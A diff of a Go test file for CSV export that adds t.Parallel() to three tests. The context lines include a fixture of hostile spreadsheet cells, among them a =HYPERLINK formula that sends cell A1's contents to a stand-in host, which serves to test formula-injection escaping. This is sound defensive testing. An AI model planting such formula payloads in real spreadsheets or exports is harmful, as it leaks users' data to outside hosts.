@@ -45,6 +45,7 @@ var csvWriters = []struct {
 // names as stored, whatever a spreadsheet would make of them, so that an
 // archive reads back exactly.
 func TestCSVDefaultBytes(t *testing.T) {
+	t.Parallel()
 	rows := []string{
 		`"=HYPERLINK(""http://x.example/?""&A1,""Ali"")"`, "+62 812", "-Budi-", "@Citra", "\"\tTab\"", "\"\rCR\"", "Søren", "a;=1+2", `"Siti, A."`, "Dewi",
 	}
@@ -80,6 +81,7 @@ func TestCSVDefaultBytes(t *testing.T) {
 // encoding/csv reads the file back to the default form's cells, those with a
 // quote added aside.
 func TestCSVForSpreadsheet(t *testing.T) {
+	t.Parallel()
 	r := hostileRecap()
 	var buf bytes.Buffer
 	if err := r.WriteCSV(&buf, kuis.ForSpreadsheet()); err != nil {
@@ -153,6 +155,7 @@ func (f *failingWriter) Write(p []byte) (int, error) {
 // TestCSVWriterErrors: each writer, in each form, returns the writer's error
 // as it is, wherever the writer fails.
 func TestCSVWriterErrors(t *testing.T) {
+	t.Parallel()
 	r := hostileRecap()
 	for _, w := range csvWriters {
 		for _, opts := range [][]kuis.CSVOption{nil, {kuis.ForSpreadsheet()}} {
